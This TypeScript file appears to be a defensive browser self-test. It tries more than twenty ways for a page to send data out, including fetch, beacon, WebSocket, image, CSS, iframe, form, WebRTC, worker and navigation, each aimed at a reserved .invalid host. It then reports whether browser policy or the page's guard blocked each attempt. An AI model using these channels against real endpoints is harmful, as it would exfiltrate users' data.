/**
 * The self-test: tries every way out that a page has and tells what became of each. Only a refusal that can be seen
 * counts: a report by the browser's policy, a function that is not there, an element that cannot be made, a navigation that
 * was stopped. An attempt that merely fails (no such host, no network) is not taken for one.
 */
import { DATA, attempted } from '../../shared/leak-attempt.ts';
import type { Attempt } from '../../shared/leak-attempt.ts';
export { attemptText } from '../../strings/leak-test.ts';
import { Refused, refusals } from './guard.ts';
import { tryMarkup } from './markup-test.ts';

/** Reserved by RFC 2606: leads nowhere, should it ever be reached. */
const ELSEWHERE = 'https://nodulens.invalid/';
/** The browser reports a refusal at once, but not always within the call. */
const PATIENCE = 400;

class Gone extends Error {}
/** The browser threw what only its rules about origins make it throw, and made nothing. */
class OtherOrigin extends Error {}

type Global = Record<string, unknown>;

/** The function or class of that name, in `of`. */
function having<T>(of: object, name: string): T {
  const found = (of as Global)[name];
  if (typeof found !== 'function') throw new Gone(name);
  return found as T;
}

/** Whether the browser's policy refuses what `act` does; one of `match` is in the address or is the directive that it reports. */
async function refusedByPolicy(match: string, act: () => unknown): Promise<boolean> {
  let seen: () => void = () => undefined;
  const reported = new Promise<boolean>((resolve) => {
    seen = () => resolve(true);
    setTimeout(() => resolve(false), PATIENCE);
  });
  const hear = (event: SecurityPolicyViolationEvent): void => {
    if (match.split('|').some((part) => part === event.effectiveDirective || event.blockedURI.includes(part))) seen();
  };
  document.addEventListener('securitypolicyviolation', hear);
  try {
    // Whatever it throws or rejects with is its own affair: only the report counts.
    void Promise.resolve(act()).catch(() => undefined);
    return await reported;
  } catch (error) {
    if (error instanceof Gone || error instanceof OtherOrigin || error instanceof Refused) throw error;
    return await reported;
  } finally {
    document.removeEventListener('securitypolicyviolation', hear);
  }
}

/** Stopped by our own listener (seal.ts). */
async function refusedByUs(act: () => unknown): Promise<boolean> {
  const before = refusals.count;
  act();
  await new Promise((resolve) => setTimeout(resolve, PATIENCE / 4));
  return refusals.count > before;
}

const put = (element: HTMLElement): void => {
  document.body.append(element);
  setTimeout(() => element.remove(), PATIENCE);
};

/** An address that is about to be tried. */
function tell(address: string): string {
  attempted.add(address);
  return address;
}

type Try = [id: string, match: string, act: () => unknown];

function attempts(to: string, host: string): Try[] {
  const at = (path: string): string => tell(`${to}${path}${DATA}`);
  const named = (path: string): string => `${host}${path}`;
  return [
    ['fetch', named('fetch'), () => having<typeof fetch>(window, 'fetch')(at('fetch'), { method: 'POST', body: DATA, mode: 'no-cors' })],
    ['xhr', named('xhr'), () => {
      const request = new (having<typeof XMLHttpRequest>(window, 'XMLHttpRequest'))();
      request.open('GET', at('xhr'));
      request.send();
    }],
    ['beacon', named('beacon'), () => having<typeof navigator.sendBeacon>(navigator, 'sendBeacon').call(navigator, at('beacon'), DATA)],
    ['websocket', named('socket'), () => new (having<typeof WebSocket>(window, 'WebSocket'))(at('socket').replace('http', 'ws'))],
    ['events', named('events'), () => new (having<typeof EventSource>(window, 'EventSource'))(at('events'))],
    ['transport', named('transport'), () => new (having<typeof WebTransport>(window, 'WebTransport'))(at('transport'))],
    ['image', named('image'), () => Object.assign(new Image(), { src: at('image') })],
    ['style', named('style'), () => {
      const element = document.createElement('div');
      element.style.backgroundImage = `url("${at('style')}")`;
      put(element);
    }],
    ['sheet', named('sheet'), () => put(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: at('sheet') }))],
    ['prefetch', named('prefetch'), () => put(Object.assign(document.createElement('link'), { rel: 'prefetch', href: at('prefetch') }))],
    ['media', named('media'), () => Object.assign(new Audio(), { src: at('media') }).load()],
    ['import', named('import'), () => import(at('import'))],
    ['frame', named('frame'), () => put(Object.assign(document.createElement('iframe'), { src: at('frame') }))],
    ['form', 'form-action', () => {
      const form = Object.assign(document.createElement('form'), { action: at('form'), method: 'post', target: '_blank' });
      put(form);
      form.submit();
    }],
  ];
}

const others: Try[] = [
  ['rtc', 'webrtc', () => new (having<typeof RTCPeerConnection>(window, 'RTCPeerConnection'))({ iceServers: [{ urls: 'stun:nodulens.invalid' }] })],
  ['window', 'window', () => having<typeof open>(window, 'open')(ELSEWHERE + DATA)],
  ['worker', 'require-trusted-types-for|nodulens.invalid/worker', () => {
    try {
      return new Worker(tell(`${ELSEWHERE}worker.js`));
    } catch (error) {
      if (error instanceof DOMException && error.name === 'SecurityError') throw new OtherOrigin();
      throw error;
    }
  }],
  ['worklet', 'nodulens.invalid/worklet', () => {
    const { Worklet } = window as unknown as { Worklet?: { prototype: object } };
    return having<(address: string) => Promise<void>>(Worklet?.prototype ?? {}, 'addModule').call(new AudioContext().audioWorklet, tell(`${ELSEWHERE}worklet${DATA}`));
  }],
  ['font', 'nodulens.invalid/font', () => new (having<typeof FontFace>(window, 'FontFace'))('x', `url(${tell(`${ELSEWHERE}font${DATA}`)})`).load()],
];

/** What the browser itself, or another program on this computer, sends on: tried by looking whether it is there. */
const PASSED_ON: Record<string, [of: () => object | undefined, names: string[]]> = {
  speech: [() => window, ['speechSynthesis', 'SpeechRecognition', 'webkitSpeechRecognition']],
  notification: [() => window, ['Notification', 'PushManager']],
  artwork: [() => window, ['MediaMetadata']],
  registration: [() => registration(), ['backgroundFetch', 'navigationPreload', 'sync', 'periodicSync', 'pushManager', 'showNotification', 'index']],
  payment: [() => window, ['PaymentRequest', 'PresentationRequest']],
  share: [() => navigator, ['share', 'credentials', 'contacts', 'clipboard', 'registerProtocolHandler']],
  devices: [() => navigator, ['bluetooth', 'usb', 'serial', 'hid', 'requestMIDIAccess', 'mediaDevices']],
  advertising: [() => navigator, ['joinAdInterestGroup', 'runAdAuction']],
  'on-device': [() => window, ['LanguageModel', 'Summarizer', 'Translator', 'Writer', 'Rewriter']],
};

const registration = (): object | undefined => (window as unknown as { ServiceWorkerRegistration?: { prototype: object } }).ServiceWorkerRegistration?.prototype;

function lookedFor(): Attempt[] {
  return Object.entries(PASSED_ON).map(([id, [of, names]]) => {
    const holder = of();
    // A property of the prototype is there where it has a getter, which may not be called on the prototype itself.
    const there = holder !== undefined && names.some((name) => {
      for (let each: object | null = holder; each; each = Object.getPrototypeOf(each) as object | null) {
        const found = Object.getOwnPropertyDescriptor(each, name);
        if (found) return found.get !== undefined || found.value !== undefined;
      }
      return false;
    });
    return { id, result: there ? 'got-out' : 'taken-away' };
  });
}

async function tried([id, match, act]: Try): Promise<Attempt> {
  try {
    return { id, result: (await refusedByPolicy(match, act)) ? 'refused-by-policy' : 'got-out' };
  } catch (error) {
    if (error instanceof Gone) return { id, result: 'taken-away' };
    if (error instanceof OtherOrigin) return { id, result: 'refused-by-policy' };
    if (error instanceof Refused) return { id, result: 'stopped' };
    throw error;
  }
}

/** Tries everything, elsewhere and, where the page is sealed, at its own server as well. */
export async function tryEverything(sealed: boolean, show: (attempt: Attempt) => void): Promise<void> {
  const elsewhere = [...attempts(ELSEWHERE, 'nodulens.invalid/'), ...others];
  for (const each of elsewhere) show(await tried(each));
  for (const each of [...tryMarkup(), ...lookedFor()]) show(each);
  if (!sealed) return;
  const own = new URL('.', document.baseURI);
  const [load] = attempts(own.href, own.host + own.pathname);
  const image = attempts(own.href, own.host + own.pathname).find(([id]) => id === 'image');
  for (const each of [load, image]) if (each) show(await tried([`own-${each[0]}`, each[1], each[2]]));
  const go: [string, () => unknown][] = [
    ['navigate', () => location.assign(ELSEWHERE + DATA)],
    ['own-navigate', () => location.assign(new URL(DATA, own).href)],
    ['link', () => {
      const link = Object.assign(document.createElement('a'), { href: ELSEWHERE + DATA, target: '_blank' });
      try {
        link.click();
      } catch (error) {
        if (!(error instanceof Refused)) throw error;
      }
    }],
  ];
  const guarded = 'navigation' in window;
  for (const [id, act] of go) {
    if (!guarded && id !== 'link') show({ id, result: 'cannot-refuse' });
    else show({ id, result: (await refusedByUs(act)) ? 'stopped' : 'got-out' });
  }
}
